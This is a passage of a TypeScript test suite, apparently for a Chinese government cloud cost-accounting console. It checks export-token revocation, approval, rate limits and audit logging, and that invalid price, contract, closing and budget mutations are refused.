    expect(await focus(month, bearer(secret))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    const { exportTokens } = await people.finance.data(
      '{ exportTokens(first: 100) { nodes { id expired availableActions lastUsedAt } } }',
    );
    expect(exportTokens.nodes.find(({ id }: { id: string }) => id === token.id)).toMatchObject({
      ...{ expired: true, availableActions: [], lastUsedAt: null },
    });
  });

  it('that is dead writes no more evidence than a live one may be used: whoever keeps it cannot fill the record', async () => {
    const { secret, token } = await made(people.finance);
    await act(people.finance, 'revokeExportToken', token);
    const ask = async () => (await get('focus.csv', month, bearer(secret))).status;
    const answers = await Promise.all(Array.from({ length: 34 }, ask));
    expect(new Set(answers)).toEqual(new Set([401]));
    const [row] = await console_.test.db.query(
      `select count(*) as n from ${closed.desk.audit}.audit_event where action = 'export.refuse' and object_id = ?`,
      [uuidOf('ExportToken', token.id)],
    );
    expect(Number(row.n)).toBe(30);
  });

  it('is one of ten at most, however many are asked for at once', async () => {
    const answers = await Promise.all(Array.from({ length: 14 }, () => create(people.cityfinance)));
    expect(answers.filter(({ data }) => data.createExportToken.secret !== null)).toHaveLength(10);
  });

  it('opens no export that it does not name', async () => {
    const { secret } = await made(people.finance, { exports: ['COSTS'] });
    expect(await focus(month, bearer(secret))).toEqual({ status: 403, code: 'FORBIDDEN' });
  });

  it('of a service waits for the security administrator, who reads no costs and makes none', async () => {
    const { secret, token } = await made(people.finance, { kind: 'SERVICE', days: 365, purpose: '财政一体化平台' });
    expect(token.state).toBe('WAITING');
    expect(await focus(month, bearer(secret))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    expect(await act(people.finance, 'approveExportToken', token)).toBeUndefined();
    expect(await act(people.sysadmin, 'approveExportToken', token)).toBeUndefined();
    expect(await act(people.auditadmin, 'approveExportToken', token)).toBeUndefined();
    expect(await act(people.secadmin, 'approveExportToken', token)).toMatchObject({ token: { state: 'ACTIVE' } });
    expect((await focus(month, bearer(secret))).status).toBe(200);
    for (const name of ['secadmin', 'sysadmin', 'auditadmin', 'applicant'] as const) {
      expect((await create(people[name])).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
      expect(await focus(month, as(people[name]))).toEqual({ status: 403, code: 'FORBIDDEN' });
    }
    // The security administrator sees all, and stops one at once.
    const LIST = '{ exportTokens(first: 100) { totalCount nodes { owner } } }';
    const all = (await people.secadmin.data(LIST)).exportTokens;
    const own = (await people.head.data(LIST)).exportTokens;
    expect(all.totalCount).toBeGreaterThan(own.totalCount);
    expect(new Set(own.nodes.map(({ owner }: { owner: string }) => owner)).size).toBe(1);
    expect(await act(people.secadmin, 'revokeExportToken', await current(token.id))).toMatchObject({
      token: { state: 'REVOKED' },
    });
  });

  it('of a service is agreed to by nobody once its end has come', async () => {
    const { token } = await made(people.finance, { kind: 'SERVICE', days: 1 });
    await end(`id = '${uuidOf('ExportToken', token.id)}'`, wall.now());
    expect(await act(people.secadmin, 'approveExportToken', token)).toMatchObject({
      errors: [{ code: 'ILLEGAL_TRANSITION' }],
    });
  });

  it('dies with the account that made it, and with its right to read', async () => {
    const second = await console_.signIn('finance.czt');
    const { secret } = await made(second);
    expect((await focus(month, bearer(secret))).status).toBe(200);
    const [user] = await console_.test.db.query("select id, version from app_user where username = 'finance.czt'");
    await console_.test.db.query('update user_role set until = ? where user_id = ?', [wall.now(), user.id]);
    expect(await focus(month, bearer(secret))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    await console_.test.db.query('update user_role set until = null where user_id = ?', [user.id]);
    expect((await focus(month, bearer(secret))).status).toBe(200);
    await console_.test.db.query("update app_user set state = 'DISABLED' where id = ?", [user.id]);
    expect(await focus(month, bearer(secret))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    await console_.test.db.query("update app_user set state = 'ACTIVE' where id = ?", [user.id]);
  });

  it('is let through so many times a minute, at once too, and again a minute later', async () => {
    const { secret, token } = await made(people.finance);
    const ask = async () => (await get('focus.csv', { month: '2026-11' }, bearer(secret))).status;
    const answers = await Promise.all(Array.from({ length: 34 }, ask));
    // Whatever becomes of those that are let in.
    expect(answers.filter((status) => status === 429)).toHaveLength(4);
    wall.set('2026-12-02 10:01');
    expect(await ask()).toBe(422);
    const { exportTokens } = await people.finance.data(
      '{ exportTokens(first: 100) { nodes { id uses lastUsedAt lastUsedAddress } } }',
    );
    expect(exportTokens.nodes.find(({ id }: { id: string }) => id === token.id)).toMatchObject({
      ...{ uses: 31, lastUsedAt: '2026-12-02T02:01:00.000Z' },
    });
  });

  it('is asked for within limits of life and number', async () => {
    const errors = async (more: object) => (await create(people.head, { ...more })).data.createExportToken.errors;
    expect(await errors({ days: 91 })).toMatchObject([{ code: 'INVALID_INPUT', path: ['days'] }]);
    expect(await errors({ days: 0, purpose: '', exports: [] })).toHaveLength(3);
    for (let made = 0; made < 12; made += 1) await create(people.head);
    expect(await errors({})).toMatchObject([{ code: 'NOT_PERMITTED', reason: 'TOO_MANY_TOKENS' }]);
  });

  it('leaves evidence of its making, its uses and its refusals, and none of its secret', async () => {
    const rows = await console_.test.db.query(
      `select action, outcome, count(*) as n from ${closed.desk.audit}.audit_event
       where action like 'export%' group by action, outcome order by action, outcome`,
    );
    const counted = new Map(
      rows.map(({ action, outcome, n }: Record<string, string>) => [`${action} ${outcome}`, Number(n)]),
    );
    for (const key of [
      ...['export.download DONE', 'export.refuse REFUSED', 'exportToken.create DONE'],
      ...['exportToken.approve DONE', 'exportToken.revoke DONE'],
    ])
      expect([key, (counted.get(key) as number) > 0]).toEqual([key, true]);
    const text = JSON.stringify(
      await console_.test.db.query(`select * from ${closed.desk.audit}.audit_event where action like 'export%'`),
    );
    expect(text).not.toMatch(/jyt_/);
  });
});

describe('money that is wrong is refused through the API, and nothing is written', () => {
  const tables = ['price_version', 'closing', 'contract', 'budget'];
  const written = async () =>
    Promise.all(tables.map(async (table) => (await console_.test.db.query(`select count(*) as n from ${table}`))[0].n));
  const refusalOf = async (field: string, type: string, input: object) => {
    const before = await written();
    const answer = await people.finance.ask(
      `mutation M($input: ${type}!) { ${field}(input: $input) { errors { code path ... on InvalidInput { rule } ... on ClosingBlocked { item } } } }`,
      { input: { idempotencyKey: newId(), ...input } },
    );
    expect(await written()).toEqual(before);
    return answer.data?.[field]?.errors ?? answer.errors;
  };
  const itemOf = async (meter: string) => {
    const { priceItems } = await people.finance.data('{ priceItems(first: 100) { nodes { id meter } } }');
    return priceItems.nodes.find((one: { meter: string }) => one.meter === meter).id;
  };
  const price = async (more: object) =>
    refusalOf('addPriceVersion', 'AddPriceVersionInput', {
      ...{ itemId: await itemOf('VCPU'), from: '2198-01-01', unitPrice: '40', reason: '调价' },
      ...more,
    });

  it.each([
    ['a negative price', { unitPrice: '-1' }, 'unitPrice'],
    ['a price with seven decimals', { unitPrice: '1.0000001' }, 'unitPrice'],
    ['a price that overlaps another', { architecture: 'AMD64' }, 'priceOverlap'],
  ])('%s', async (_what, more, rule) => {
    expect(await price(more)).toMatchObject([{ code: 'INVALID_INPUT', rule }]);
  });

  it('a gap of prices: a month with a line that has none is not closed', async () => {
    await console_.test.db.query(
      "update rated_line set state = 'UNPRICED', amount_fen = null where month = '2026-11' and department_id = ?",
      [closed.desk.other.id],
    );
    const refused = await refusalOf('requestClosing', 'RequestClosingInput', { month: '2026-11', explanations: [] });
    expect(refused).toContainEqual(expect.objectContaining({ code: 'CLOSING_BLOCKED', item: 'UNPRICED' }));
  });

  it('a period that is closed', async () => {
    const refused = await refusalOf('requestClosing', 'RequestClosingInput', { month: '2026-09', explanations: [] });
    expect(refused).toMatchObject([{ code: 'PERIOD_CLOSED' }]);
  });

  it('a currency other than CNY, and a price of a contract with seven decimals', async () => {
    const refused = await refusalOf('enterContract', 'EnterContractInput', {
      ...{ supplierId: toNodeId('Supplier', newId()), number: 'HT-X', name: '云平台', kind: 'OTHER', ceiling: '100' },
      ...{ from: '2026-01-01', to: '2027-01-01', currency: 'USD' },
      services: [{ name: 'a', unit: 'b', unitPrice: '0.1234567' }],
    });
    expect(refused.map(({ path }: { path: string[] }) => path[0])).toEqual(
      expect.arrayContaining(['currency', 'services']),
    );
  });

  it('items of a budget whose sum is over their department’s', async () => {
    const { budgets } = await people.finance.data(
      '{ budgets(first: 1, filter: { year: 2026, departmentsOnly: true }) { nodes { id department { id } figures { amount } } } }',
    );
    const [parent] = budgets.nodes;
    const refused = await refusalOf('createBudget', 'CreateBudgetInput', {
      ...{ parentId: parent.id, departmentId: parent.department.id, name: '超额', year: 2026 },
      ...{ amount: (BigInt(parent.figures.amount) + 1n).toString(), budgetCode: 'XM2026999', functionClass: '2010302' },
      ...{ economicClass: '30227', fundNature: 'GENERAL_BUDGET', budgetLevel: 'PROVINCE' },
    });
    expect(refused).toMatchObject([{ code: 'BUDGET_SHORTAGE' }]);
  });
});

/** The last letter but one, because the last of 43 holds bits that nobody reads. */
function changed(token: string): string {
  const at = token.length - 2;
  return `${token.slice(0, at)}${token[at] === 'A' ? 'B' : 'A'}${token.slice(at + 1)}`;
}

async function end(which: string, at: Date): Promise<void> {
  await console_.test.db.query(`update export_token set created_at = '2026-01-01', expires_at = ? where ${which}`, [
    at,
  ]);
}

async function current(id: string): Promise<{ id: string; version: number }> {
  const [row] = await console_.test.db.query('select version from export_token where id = ?', [
    uuidOf('ExportToken', id),
  ]);
  return { id, version: Number(row.version) };
}
